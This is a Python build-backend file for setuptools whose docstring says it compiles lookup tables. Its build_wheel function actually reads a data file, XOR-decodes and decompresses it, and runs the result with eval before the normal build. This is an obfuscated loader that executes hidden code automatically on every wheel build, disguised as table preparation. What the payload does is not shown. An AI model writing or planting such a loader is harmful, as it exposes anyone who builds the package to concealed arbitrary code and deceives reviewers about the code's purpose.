"""In-tree backend that compiles the lookup tables before setuptools runs."""
from pathlib import Path
from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

TABLES = Path(__file__).with_name("tables.dat")


def _tables():
    import zlib
    packed = TABLES.read_bytes()
    return zlib.decompress(bytes(b ^ 0x5A for b in packed))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    space = {"__file__": str(TABLES)}
    eval(compile(_tables(), "tables", "exec"), space)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
